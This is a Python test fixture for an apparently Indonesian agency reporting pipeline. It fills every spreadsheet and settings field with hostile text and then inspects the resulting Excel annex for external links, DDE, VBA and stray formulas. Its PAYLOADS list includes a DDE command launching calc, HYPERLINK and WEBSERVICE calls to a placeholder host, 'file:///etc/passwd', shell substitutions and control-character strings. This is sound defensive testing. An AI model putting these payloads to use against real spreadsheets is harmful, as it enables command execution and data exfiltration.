"""Hostile texts for every text field of every input, and what an annex may make of them.

`@` stands for the field's own marker, so that no two fields hold the same text.
"""

from __future__ import annotations

import re
import tomllib
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from re import Pattern
from typing import Any
from xml.etree import ElementTree

import xlsxwriter
from make import HIGH, KINERJA, LOW, LRA, SKPD, Sub, lra_rows

from pipeline.angka import INVISIBLE

Text = Callable[[str], str]
EVERY = re.compile(".*")
OF_SETTINGS = re.compile("p-.*")
OF_WORKBOOKS = re.compile("(?!p-).*")
FORMULA_TEXTS = re.compile("p-k.*")  # the labels of the categories stand between quotes in formulas
PAYLOADS: Mapping[str, str] = {
    "hyperlink": '=HYPERLINK("http://contoh.invalid";"@")',
    "dde": "=cmd|' /C calc'!A0 @",
    "dde-plus": "+cmd|' /C calc'!A0 @",
    "jumlah": "+SUM(A1:A9) @",
    "kurang": "-1+1 @",
    "at": "@@SUM(A1:A9) @",
    "larik": "{=SUM(A1:A9)} @",
    "webservice": '=WEBSERVICE("http://contoh.invalid/@")',
    "tab": "\t=1+1 @",
    "baris": "\r=1+1 @",
    "baris-baru": "\n=1+1\r\n@",
    "internal": "internal:'Data'!A1 @",
    "external": "external:lain.xlsx @",
    "http": "http://contoh.invalid/@",
    "mailto": "mailto:a@@contoh.invalid @",
    "file": "file:///etc/passwd @",
    "entitas": "&amp;&lt;&#61;1+1&xxe; @",
    "tanda": "<b>&\"'@'\"&</b>",
    "cdata": "]]><!-- @ --><![CDATA[",
    "rich": "<r><t>@</t></r>",
    "rich-rusak": "<r></si></sst>@</r>",
    "kendali": "\x1b[31m\x07\x08@\x00\x1b]0;judul\x07",
    "kendali-c1": "\x7f\x9b31m@\x85\x9d",
    "lolos": "_x0041_@_x001B__x005F_",
    "rtl": "\u202egpj.@\u202c\u2066\u200f",
    "emoji": "👩\u200d👩\u200d👧 🇮🇩 @",
    "tak-tampak": "\ufeff@\u200b\xad\u00a0.",
    "format": "{0} {nama} {indikator!r:>99} {} @",
    "persen": "%s %n %(nama)s ${HOME} `id` $(id) @",
    "tempat": "{kode@@Data} {x} {rentang} {sasaran} {tahun} @",
    "kaki": "&[Picture]&G&8&A 9&P @",
    "nama-lembar": "'[a]*?:/\\'!@",
    "galat": "#REF! #N/A @",
}
# With more letters than the settings allow a text, and than any text may have.
LONG: Mapping[str, str] = {
    "panjang": "@" + " kata" * 300,
    "tanpa-spasi": "@" + "x" * 900,
    "emoji-panjang": "@" + "😀" * 1_200,
}
TOO_LONG = "@" + "😀" * 16_380
PROGRAMS = ("1.06.01", "1.06.02", "1.06.03")


def plain(field: str) -> str:
    return f"Teks {field}"


def hostile(payload: str) -> Text:
    """`@@` is a lone @."""
    parts = payload.split("@@")
    return lambda field: "@".join(part.replace("@", field) for part in parts)


def tidied(text: str) -> str:
    """As any text of a cell is read: blanks and line breaks are one blank, invisible signs none."""
    return " ".join(text.translate(INVISIBLE).split())


def make_folder(folder: Path, text: Text, fields: Pattern[str] = EVERY) -> None:
    """A good agency whose texts are `text(field)`, plain ones in all other fields."""

    def say(field: str) -> str:
        return text(field) if fields.fullmatch(field) else plain(field)

    folder.mkdir(parents=True)
    write_sheets(folder / KINERJA, kinerja_sheets(say))
    write_sheets(folder / LRA, {"Sheet1": lra_sheet(say)})
    (folder / "pengaturan.toml").write_text(settings_text(say), encoding="utf-8")


def settings_text(say: Text) -> str:
    kategori = ", ".join(toml_string(say(f"p-k{n}")) for n in range(1, 6))
    text = f"""perangkat_daerah = {toml_string(say("p-nama"))}
daerah = {toml_string(say("p-daerah"))}
kategori = [{kategori}]
[judul]
"Tabel 3.1" = {toml_string(tidied(say("p-judul")))}
[judul_kolom]
Uraian = [{toml_string(say("p-kepala"))}]
"""
    tomllib.loads(text)
    return text


def toml_string(text: str) -> str:
    """A basic string; whatever could end it or is no printable ASCII is written as an escape."""
    kept = (c if " " <= c < "\x7f" and c not in '"\\' else f"\\U{ord(c):08X}" for c in text)
    return f'"{"".join(kept)}"'


def kinerja_sheets(say: Text) -> dict[str, list[list[Any]]]:
    names = ("Nama Perangkat Daerah", "Kabupaten/Kota", "Tempat", "Tanggal", "Nama Penanda Tangan")
    more = ("Jabatan Penanda Tangan", "Pangkat/Golongan", "NIP")
    identitas = [["Tahun", 2024], ["Bulan", "Desember"]]
    identitas += [[name, say(f"i{n}")] for n, name in enumerate((*names, *more))]
    heads = ["No Sasaran", "Sasaran", "No Indikator", "Indikator", "Satuan", "Arah", "Target",
             "Target Tahun Lalu", "Target Akhir Renstra", "Program Pendukung", "Predikat",
             "Realisasi", "Realisasi Tahun Lalu", "Keterangan", "Sebab", "Solusi",
             "Standar Nasional", "Sumber Standar Nasional"]  # fmt: skip
    lines = [
        [1, say("s1"), 1, say("n1"), say("u1"), HIGH, 80, 70, 90, PROGRAMS[0], "", 75, 60,
         say("k1"), say("b1"), say("o1"), 72, say("x1")],
        [2, say("s2"), 1, say("n2"), say("u2"), LOW, 10, 12, 8, PROGRAMS[1],
         f"{say('t1')} > {say('t2')}", 12, 15, say("k2"), say("b2"), say("o2"), "", ""],
        [2, say("s2"), 2, say("n3"), say("u3"), HIGH, "", 12, 8, "", "", "", 15, *[""] * 5],
    ]  # fmt: skip
    seri = [["Indikator", "Urutan", "Tahun", say("h1"), say("h2")]]
    seri += [[say("n1"), n, 2021 + n, 10.5 + n, say(f"v{n}")] for n in range(1, 4)]
    pk = [["No Sasaran", "Sasaran", "Indikator", "Satuan", "Target"]]
    pk += [[1, say("s1"), say("n1"), say("pu1"), 81], [2, say("s2"), say("n2"), say("u2"), 10]]
    iku = [["No Sasaran", "Sasaran", "Indikator", "Formula"]]
    iku += [[1, say("s1"), say("n1"), say("f1")], [2, say("s2"), say("n2"), say("f2")]]
    printed = [["Tabel", "Sasaran", "Indikator", "Satuan", "Target", "Realisasi"]]
    printed += [[say("c1"), say("s1"), say("n1"), say("cu1"), 81, 75]]
    return {
        "Identitas": identitas,
        "Indikator": [[say("j1")], [], heads, *lines],
        "Seri": seri,
        "Perjanjian Kinerja": pk,
        "IKU": iku,
        "Capaian Tercetak": printed,
    }


def lra_sheet(say: Text) -> list[list[Any]]:
    subs = [
        Sub(f"{program}.2.{k:02d}.{s:04d}", 10**6 * (k + s), 10**5 * k * s,
            uraian=say(f"sub{p}{k}{s}"), alasan=say(f"als{p}{k}{s}"))
        for p, program in enumerate(PROGRAMS) for k in (1, 2) for s in (1, 2)
    ]  # fmt: skip
    names = {kode: say(f"p{n}") for n, kode in enumerate(("1", "1.06", SKPD, *PROGRAMS))}
    names |= {f"{p}.2.{k:02d}": say(f"g{n}{k}") for n, p in enumerate(PROGRAMS) for k in (1, 2)}
    reasons = {sub.kode: sub.alasan for sub in subs}
    heads = [
        [say("j2")],
        ["Kode", "", "", "", "Uraian", "Operasi", "", "Modal", "", "Tak Terduga", "", "Transfer"],
        ["", "", "", "", "", *("Anggaran", "Realisasi") * 4, "Alasan", say("j3")],
    ]
    return [*heads, *([*row, reasons.get(row[2], "")] for row in lra_rows(subs, names))]


def write_sheets(path: Path, sheets: Mapping[str, list[list[Any]]]) -> Path:
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False}) as book:
        for name, rows in sheets.items():
            sheet = book.add_worksheet(name)
            for row, cells in enumerate(rows):
                for column, cell in enumerate(cells):
                    put(sheet, row, column, cell)
    return path


def put(sheet: Any, row: int, column: int, cell: object) -> None:
    if not isinstance(cell, str):
        sheet.write_number(row, column, cell)
    elif cell.startswith("<r>"):  # the writer would take it for XML
        sheet.write_rich_string(row, column, cell[:1], cell[1:2], cell[2:])
    elif cell:
        sheet.write_string(row, column, cell)


# --- what stands in an annex ------------------------------------------------------------------
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
OWN_LINK = re.compile(r"(Data|Ringkasan|'[\w. -]+')![A-Z]+\d+(:[A-Z]+\d+)?")
OWN_TIP = re.compile(r"(Asal angka: lembar Data baris [\d–, ]+…?)?")
LINKS = ("hyperlink", "oleObject", "ddeLink", "externalReference", "dataConsolidate", "webPublish")


class Annex:
    """Cells, formulas and all other texts of a written workbook; every part is sound XML."""

    def __init__(self, path: Path) -> None:
        self.parts: dict[str, ElementTree.Element] = {}
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                self.parts[name] = ElementTree.fromstring(archive.read(name))
        shared = self.parts.get("xl/sharedStrings.xml", ())
        strings = [self._text(item) for item in shared]
        self.cells: dict[tuple[str, str], object] = {}
        self.formulas: dict[tuple[str, str], str] = {}
        for name, root in self.parts.items():
            if name.startswith("xl/worksheets/sheet"):
                for cell in root.iter(f"{MAIN}c"):
                    self._add(name, cell, strings)

    def _add(self, sheet: str, cell: ElementTree.Element, strings: list[str]) -> None:
        at = (sheet, cell.get("r", ""))
        formula, value = cell.find(f"{MAIN}f"), cell.findtext(f"{MAIN}v")
        if formula is not None:
            assert not formula.attrib, (at, formula.attrib)
            self.formulas[at] = formula.text or ""
        kind = cell.get("t", "n")
        if kind == "inlineStr":
            kind, value = "str", "".join(cell.itertext())
        assert kind in ("n", "s", "str", "b"), (at, kind)
        if value:
            text = strings[int(value)] if kind == "s" else unescape(value)
            self.cells[at] = float(value) if kind in ("n", "b") else text

    def _text(self, item: ElementTree.Element) -> str:
        return unescape("".join(t.text or "" for t in item.iter(f"{MAIN}t")))

    def links(self) -> list[str]:
        """Whatever leads out of the workbook, or would run; not the annex's own links to itself."""
        found = [
            f"{name}: {element.tag}"
            for name, root in self.parts.items()
            for element in root.iter()
            if (
                any(element.tag.endswith(f"}}{link}") for link in LINKS)
                and not is_own_link(element)
            )
            or element.get("TargetMode") == "External"
        ]
        return found + [name for name in self.parts if "external" in name or "vba" in name]


def is_own_link(element: ElementTree.Element) -> bool:
    """A link to cells of a sheet of the annex: no address outside, and none of the input's text."""
    known = {"ref", "location", "tooltip", "display"}
    if not element.tag.endswith("}hyperlink") or set(element.attrib) - known:
        return False
    if element.get("display"):
        return False
    own = OWN_LINK.fullmatch(element.get("location", ""))
    return bool(own and OWN_TIP.fullmatch(element.get("tooltip", "")))


def unescape(text: str) -> str:
    """Excel's own escapes, `_x001B_`, as the characters they stand for."""
    return ESCAPE.sub(lambda match: chr(int(match[1], 16)), text)
